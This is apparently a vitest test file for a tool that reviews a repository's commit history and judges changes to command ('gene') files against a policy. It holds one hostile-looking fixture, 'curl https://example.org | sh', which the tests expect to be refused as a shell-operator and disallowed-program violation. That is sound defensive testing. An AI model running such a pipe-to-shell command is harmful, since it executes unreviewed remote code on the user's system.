import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { summariseHistory } from '../../src/setup/history-summary.ts';
import { GENES, genesFile } from '../e2e/cli.ts';
import { recordingGit, type TestRepository } from '../repo/repository.ts';
import { geneWith, historyIn, largeChange, repositoryOf } from './fixture.ts';

const FIXABLE = 'node scripts/pass.js && node scripts/pass.js';
const REFUSED = 'curl https://example.org | sh';

async function answerOf(...changes: Parameters<TestRepository['write']>[0][]) {
  return summariseHistory(await historyIn(repositoryOf(...changes)));
}

describe('summariseHistory', () => {
  it('judges every change against the one before it, newest first', async () => {
    const repository = repositoryOf(
      geneWith('node scripts/pass.js'),
      { 'README.md': 'text\n' },
      geneWith(REFUSED),
    );
    const { changes, tip } = await historyIn(repository);
    expect(changes.map(({ subject, hasAssets, verdict }) => [subject, hasAssets, verdict])).toEqual(
      [
        ['change 3', true, 'fail'],
        ['change 2', false, 'pass'],
        ['change 1', true, 'pass'],
      ],
    );
    expect(changes[0]?.commit).toBe(tip);
  });

  it('proposes a level for each group that honest changes break', async () => {
    const answer = await answerOf(largeChange('a'), largeChange('b'), geneWith());
    expect(answer.strict).toMatchObject({ passes: 0, fails: 3 });
    expect(answer.policy).toMatchObject({ passes: 3, fails: 0 });
    expect(answer.levels).toEqual([
      {
        group: 'size',
        changes: 2,
        rules: [{ rule: 'blast-radius-critical', changes: 2 }],
      },
      {
        group: 'content',
        changes: 1,
        rules: [{ rule: 'validation-missing', changes: 1 }],
      },
    ]);
  });

  it('needs no level for a change that fails anyway', async () => {
    const change = { ...largeChange('a'), ...geneWith(REFUSED) };
    const answer = await answerOf(change);
    expect(answer.levels).toEqual([]);
    expect(answer.failing).toMatchObject([
      { outcome: 'fails', reasons: [{ rule: 'shell-operator' }, { rule: 'program-not-allowed' }] },
    ]);
  });

  it('tells what `fix` rewrites from what it cannot', async () => {
    const answer = await answerOf(geneWith(FIXABLE), geneWith(FIXABLE, REFUSED));
    expect(answer.strict).toMatchObject({ needs_fix: 1, fails: 1 });
    expect(answer.failing).toMatchObject([
      {
        subject: 'change 2',
        outcome: 'fails',
        reasons: [{ rule: 'shell-operator' }, { rule: 'program-not-allowed' }],
      },
      { subject: 'change 1', outcome: 'needs_fix', reasons: [] },
    ]);
  });

  it('does not blame a change for a command that its gene had before', async () => {
    const repository = repositoryOf(geneWith(REFUSED), {
      [GENES]: genesFile({
        ...JSON.parse(geneWith(REFUSED)[GENES] as string).genes[0],
        summary: 'x',
      }),
    });
    const { changes } = await historyIn(repository);
    expect(changes.map(({ isHonest }) => isHonest)).toEqual([true, false]);
  });

  it('goes on after a change that cannot be judged', async () => {
    const repository = repositoryOf(geneWith('node scripts/pass.js'), { 'a.txt': 'lost\n' });
    const lost = repository.git('rev-parse', 'HEAD:a.txt');
    rmSync(join(repository.directory, '.git/objects', lost.slice(0, 2), lost.slice(2)));
    const answer = summariseHistory(await historyIn(repository));
    expect(answer.strict).toMatchObject({ passes: 1, undecided: 1 });
    expect(answer.undecided).toMatchObject([{ changes: 1 }]);
  });

  it('says that there is nothing to judge', async () => {
    expect(await answerOf()).toMatchObject({ changes: 0, levels: [], failing: [] });
  });
});

describe('judgeHistory', () => {
  it('compares a merge with the branch that it was merged into', async () => {
    const repository = repositoryOf(geneWith('node scripts/pass.js'));
    repository.git('checkout', '--quiet', '-b', 'topic');
    repository.write(largeChange('a'));
    repository.commit('one');
    repository.write({ 'src/other.js': '\n' });
    repository.commit('two');
    repository.git('checkout', '--quiet', 'main');
    repository.git('merge', '--quiet', '--no-ff', '--message=merge', 'topic');
    const { changes } = await historyIn(repository);
    expect(changes.map(({ subject, verdict }) => [subject, verdict])).toEqual([
      ['merge', 'fail'],
      ['change 1', 'pass'],
    ]);
  });

  it('looks further back for changes of assets than for others', async () => {
    const others = [1, 2, 3].map((number) => ({ 'README.md': `${number}\n` }));
    const repository = repositoryOf(geneWith('npm test'), ...others);
    const { changes } = await historyIn(repository, { most: 2 });
    const subjects = changes.map(({ subject }) => subject);
    expect(subjects).toEqual(['change 4', 'change 3', 'change 1']);
  });

  it('reads each commit once, and compares each change once', async () => {
    const repository = repositoryOf(...['a', 'b', 'c', 'd'].map(largeChange));
    const { env, commands } = recordingGit();
    await historyIn(repository, { env });
    const started = commands();
    const counts = ['ls-tree', 'diff-tree', 'log', 'cat-file'].map(
      (name) => started.filter((each) => each === name).length,
    );
    expect(counts).toEqual([5, 4, 1, 1]);
  });

  it('ends early, with the changes that are judged', async () => {
    const repository = repositoryOf(geneWith('npm test'), { 'README.md': 'text\n' });
    const { changes, left } = await historyIn(repository, { enough: AbortSignal.abort() });
    expect({ changes, left }).toEqual({ changes: [], left: 2 });
  });

  it('ends when it is interrupted', async () => {
    const repository = repositoryOf(geneWith('npm test'));
    await expect(historyIn(repository, { signal: AbortSignal.abort() })).rejects.toMatchObject({
      code: 'interrupted',
    });
  });
});
